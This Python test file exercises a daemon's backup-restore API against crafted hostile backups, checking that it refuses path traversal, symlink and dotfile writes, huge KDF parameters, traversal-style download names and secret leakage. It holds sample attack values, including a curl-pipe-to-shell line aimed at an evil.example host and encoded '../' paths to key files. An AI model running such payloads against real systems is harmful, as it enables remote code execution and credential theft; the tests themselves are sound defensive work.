"""Backups as an attacker writes them, against a real daemon's admin API: a backup is a file someone
hands over, and restoring it must not make the daemon write outside what it restores (its key files
into dotfiles, its own home, through a symlink), nor spend gigabytes on a key derivation the file
asks for, nor serve anything but the backups of its directory."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from daemon.api.backup import BackupSecrets, KdfParams
from daemon.api.client import DaemonError
from daemon.api.models import ModelDefinition
from daemon.backup import crypto, document
from tests.daemon.harness import running_daemon

PASSPHRASE = "the attacker chose this one"


def _external(model_id: str, key_file: str) -> dict[str, object]:
    return {"id": model_id, "served_name": model_id, "runtime": "external", "node": "local",
            "base_url": "https://api.example.com/v1", "provider_model": "gpt-4o", "api_key_file": key_file}


def _crafted(key_files: dict[str, str]) -> str:
    """A well-formed, encrypted backup whose models name ``key_files`` and whose secrets carry them."""
    contents = document.Contents(models=[_external(f"m{i}", path) for i, path in enumerate(key_files)],
                                 keys=[], nodes=[], settings={})
    return document.build(contents, BackupSecrets(key_files=key_files), PASSPHRASE, created_at=time.time(),
                          host="evil", daemon_version="0").decode()


async def test_a_backups_key_files_never_land_in_dotfiles_the_daemons_home_or_through_a_link(
        tmp_path: Path) -> None:
    home, victim = tmp_path / "home", tmp_path / "victim"
    (victim / ".config").mkdir(parents=True)
    bashrc = victim / ".bashrc"
    bashrc.write_text("# mine\n")
    (tmp_path / "link").symlink_to(victim / ".config", target_is_directory=True)
    ok = tmp_path / "keys" / "provider.key"
    payload = "curl${IFS}-s${IFS}https://evil.example/x|sh"
    attacks = {
        str(bashrc): "existing dotfile",
        str(victim / ".ssh" / "authorized_keys"): "new file in a hidden folder",
        str(home / "config.toml"): "the daemon's own config",
        str(home / "pki" / "ca.crt"): "the daemon's CA",
        str(tmp_path / "link" / "autostart" / "evil.desktop"): "through a symlink",
        f"{tmp_path}/keys/../victim/.profile": "with ..",
    }
    async with running_daemon(home, None, local_agent=False) as rd:
        config_before = (home / "config.toml").read_bytes() if (home / "config.toml").exists() else None
        ca_before = (home / "pki" / "ca.crt").read_bytes()
        text = _crafted({**{path: payload for path in attacks}, str(ok): "sk-fine\n"})
        preview = {(r.kind, r.id): r for r in (await rd.client.preview_restore(text, PASSPHRASE)).rows}
        for path, what in attacks.items():
            row = preview[("secret", path)]
            assert row.change == "skipped" and (row.note or "").startswith("not written"), (what, row)
        assert preview[("secret", str(ok))].change == "new"
        await rd.client.restore_backup(text, PASSPHRASE)
        assert (home / "pki" / "ca.crt").read_bytes() == ca_before
        assert ((home / "config.toml").read_bytes() if (home / "config.toml").exists() else None) == config_before
    assert bashrc.read_text() == "# mine\n"
    assert not (victim / ".ssh").exists() and not (victim / ".profile").exists()
    assert not (victim / ".config" / "autostart").exists()
    assert ok.read_text() == "sk-fine\n" and ok.stat().st_mode & 0o777 == 0o600  # a plain path still restores
    assert payload not in "".join(p.read_text(errors="replace") for p in home.rglob("*")
                                  if p.is_file() and p.suffix in (".log", ".toml", ".json"))


def _with_kdf(text: str, **params: int) -> str:
    doc = json.loads(text)
    doc["secrets"]["kdf"].update(params)
    return json.dumps(doc)


@pytest.mark.parametrize("params", [{"n": 2**30}, {"n": 2**20, "r": 16}, {"n": 2**18, "r": 16, "p": 4},
                                    {"n": 2**17, "r": 8, "p": 1000}, {"iterations": 10**12}],
                         ids=["n=2^30", "2GiB", "512MiB", "p=1000", "pbkdf2-1e12"])
async def test_a_key_derivation_the_file_makes_huge_is_refused_before_it_runs(
        tmp_path: Path, params: dict[str, int]) -> None:
    text = _crafted({})
    if "iterations" in params:
        doc = json.loads(text)
        doc["secrets"]["kdf"] = {"name": "pbkdf2-sha256", "salt": doc["secrets"]["kdf"]["salt"], **params}
        text = json.dumps(doc)
    else:
        text = _with_kdf(text, **params)
    async with running_daemon(tmp_path / "home", None, local_agent=False) as rd:
        for call in (rd.client.preview_restore, rd.client.restore_backup):
            with pytest.raises(DaemonError) as caught:
                await call(text, PASSPHRASE)
            assert caught.value.code == "backup_invalid" and "more than a restore will spend" in caught.value.message


def test_the_kdf_a_backup_is_written_with_is_within_what_a_restore_spends() -> None:
    crypto.check_kdf(crypto.new_kdf())
    crypto.check_kdf(KdfParams(name="scrypt", salt=crypto.b64(os.urandom(16)), n=2**18, r=8, p=1))  # room to grow


async def test_only_backup_files_of_the_directory_are_served(tmp_path: Path) -> None:
    home = tmp_path / "home"
    secret = tmp_path / "id_ed25519"
    secret.write_text("PRIVATE KEY MATERIAL\n")
    async with running_daemon(home, None, local_agent=False) as rd:
        real = await rd.client.save_backup()
        backups = home / "backups"
        planted = backups / "mirbadllm-backup-box-20260101-000000.json"
        planted.symlink_to(secret)  # e.g. a shared backup folder someone else can write to
        (backups / "mirbadllm-backup-box-20260101-000001.json\n").write_text("{}")
        for name in (planted.name, "mirbadllm-backup-box-20260101-000001.json%0A", "..%2Fconfig.toml",
                     "..%2F..%2Fid_ed25519", "mirbadllm-backup-..%2F..-20260101-000000.json"):
            with pytest.raises(DaemonError) as caught:
                await rd.client.download_backup(name)
            assert caught.value.status == 404, (name, caught.value)
            assert "PRIVATE KEY" not in caught.value.message
        listed = [f.name for f in (await rd.client.list_backups()).files]
        assert listed == [real.name]
        assert json.loads(await rd.client.download_backup(real.name))["format"] == "mirbadllm-backup"


async def test_no_secret_of_a_backup_and_restore_is_left_in_the_home_the_log_the_events_or_the_audit(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    import logging

    caplog.set_level(logging.DEBUG)
    home = tmp_path / "home"
    key_file = tmp_path / "keys" / "provider.key"
    key_file.parent.mkdir()
    key_file.write_text("sk-provider-GREP-ME-4711\n")
    async with running_daemon(home, None, local_agent=False) as rd:
        await rd.client.create_model(ModelDefinition.model_validate(_external("gpt", str(key_file))))
        api_key = (await rd.client.create_key("laptop")).key
        await rd.client.save_backup(PASSPHRASE)
        text = await rd.client.create_backup(PASSPHRASE)
        with pytest.raises(DaemonError):
            await rd.client.restore_backup(text, "a wrong passphrase here")
        await rd.client.preview_restore(text, PASSPHRASE)
        await rd.client.restore_backup(text, PASSPHRASE)
        events = (await rd.client.events(0, timeout=0)).model_dump_json()
        audit = (await rd.client.audit(limit=1000)).model_dump_json()
        ca_body = b"".join((home / "pki" / "ca.key").read_bytes().splitlines()[1:-1])
    secrets = [api_key, "sk-provider-GREP-ME-4711", PASSPHRASE, "a wrong passphrase here"]
    stored = {p: p.read_bytes() for p in home.rglob("*") if p.is_file() and not p.name.endswith(".key")}
    for secret in secrets:
        assert secret not in caplog.text and secret not in events and secret not in audit, secret
        assert not [p for p, data in stored.items() if secret.encode() in data], secret
    assert not [p for p, data in stored.items() if ca_body and ca_body[:40] in data]  # the CA key, in clear


async def test_a_backup_cannot_point_a_model_at_a_secret_file_to_send_it_to_its_base_url(tmp_path: Path) -> None:
    """No passphrase needed: an external model whose key file is the HF token, the daemon's admin
    token or a link would have the daemon read it and send it to the backup's base_url."""
    home, victim = tmp_path / "home", tmp_path / "victim"
    hf_token = victim / ".cache" / "huggingface" / "token"
    hf_token.parent.mkdir(parents=True)
    hf_token.write_text("hf_VICTIM_TOKEN\n")
    (tmp_path / "plain").mkdir()
    (tmp_path / "plain" / "link.key").symlink_to(hf_token)
    fine = tmp_path / "plain" / "provider.key"
    fine.write_text("sk-fine\n")
    async with running_daemon(home, None, local_agent=False) as rd:
        targets = {"hf": str(hf_token), "admin": str(home / "admin-token"),
                   "link": str(tmp_path / "plain" / "link.key"), "fine": str(fine)}
        assert (home / "admin-token").exists()
        contents = document.Contents(models=[_external(name, path) for name, path in targets.items()],
                                     keys=[], nodes=[], settings={})
        text = document.build(contents, None, None, created_at=time.time(), host="evil", daemon_version="0").decode()
        rows = {r.id: r for r in (await rd.client.preview_restore(text)).rows if r.kind == "model"}
        for name in ("hf", "admin", "link"):
            assert rows[name].change == "skipped" and "add the model by hand" in (rows[name].note or ""), rows[name]
        assert rows["fine"].change == "new"
        await rd.client.restore_backup(text)
        assert [m.definition.id for m in await rd.client.list_models()] == ["fine"]
